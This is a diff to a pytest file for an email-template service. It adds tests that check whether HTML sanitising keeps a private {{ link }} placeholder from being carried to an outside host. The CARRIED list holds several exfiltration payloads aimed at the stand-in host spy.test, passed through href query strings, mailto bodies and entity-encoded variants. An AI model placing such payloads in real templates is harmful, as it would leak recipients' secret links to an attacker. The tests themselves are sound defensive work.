@@ -1,9 +1,11 @@
 """The mails of the system in the words of the house."""
 
+import re
 from typing import Any
 
 import pytest
 from cenacle.app import stock
+from cenacle.calls.words import LINK, checked_words
 from cenacle.platform.access import Role
 from cenacle.platform.mail import EmailTemplate, templates
 from cenacle.platform.mail.models import MailboxMessage
@@ -45,6 +47,11 @@ def test_the_house_finds_every_template_in_its_table(admin: Client) -> None:
     assert set(answer.result["rows"][0]) == {
         "id", "key", "subject", "description", "isEnabled", "version",
     }  # fmt: skip
+    off = admin.post("/api/emailTemplate/table", {"state": "off", "take": 100}).result
+    assert {row["isEnabled"] for row in off["rows"]} <= {False}
+    on = admin.post("/api/emailTemplate/table", {"state": "on", "take": 100}).result
+    assert on["total"] + off["total"] == len(keys)
+    assert on["total"] > 0
 
 
 def test_a_template_comes_with_the_placeholders_that_it_may_use(reset: dict[str, Any]) -> None:
@@ -90,6 +97,8 @@ def test_a_template_is_written_anew(admin: Client, notice: dict[str, Any]) -> No
         "cc": "office@house.test, {{ supportEmail }}",
         "description": notice["description"],
         "placeholders": notice["placeholders"],
+        "language": "en",
+        "texts": {"en": {"subject": words["subject"], "body": words["body"]}},
         "isEnabled": True,
         "isOptional": False,
         "version": 2,
@@ -217,6 +226,41 @@ def test_html_is_kept_without_what_could_do_harm(
             "firstName",
         ):
             assert harm not in kept
+
+
+CARRIED = [
+    '<p><a href="https://spy.test/?u={{ link }}">words</a></p>',
+    '<p><a href="https://spy.test/?u=&#123;&#123; link }}">words</a></p>',
+    '<p><a href="https://spy.test/{{ Link }}">words</a></p>',
+    '<p><a href="https://spy.test/{{ li&#110;k }}">words</a></p>',
+    '<p><a href="mailto:spy@spy.test?body={{ link }}">words</a></p>',
+    '<p><a href="{{ link }}{{ link }}">words</a></p>',
+    "<p>words https://spy.test/?u={{ link }}</p>",
+    "<p>words https://spy.test/?u=<b>{{ link }}</b></p>",
+    '<p>words https://spy.test/?u=<a href="{{ link }}">{{ link }}</a></p>',
+]
+"""Bodies by which a reader would bring their own link to somebody else."""
+
+
+@pytest.mark.parametrize("body", CARRIED)
+def test_a_link_goes_nowhere_but_to_its_page(
+    admin: Client, reset: dict[str, Any], body: str
+) -> None:
+    saved = admin.put(UPDATE, reset | {"body": body}).result["body"]
+    seen = admin.post("/api/emailTemplate/preview", reset | {"body": body}).result
+
+    assert "words" in saved
+    for shown in (saved, seen["html"], seen["text"]):
+        assert not re.search(r"spy\.test[^\s<]*(\{\{|https:)", shown)
+        assert "<a>words" in saved or "https://spy.test/?u= " in re.sub("<[^<>]*>", " ", saved)
+
+
+def test_a_link_of_a_captains_own_words_goes_nowhere_else(house: TestHouse) -> None:
+    body = '<p>Come. <a href="https://spy.test/?u={{ Link }}">Yes</a></p>'
+
+    _, kept = checked_words(house.served, None, body)
+
+    assert kept == f"<p>Come. <a>Yes</a></p>{LINK}"
 
 
 def test_what_a_mail_needs_stays(admin: Client, reset: dict[str, Any]) -> None:
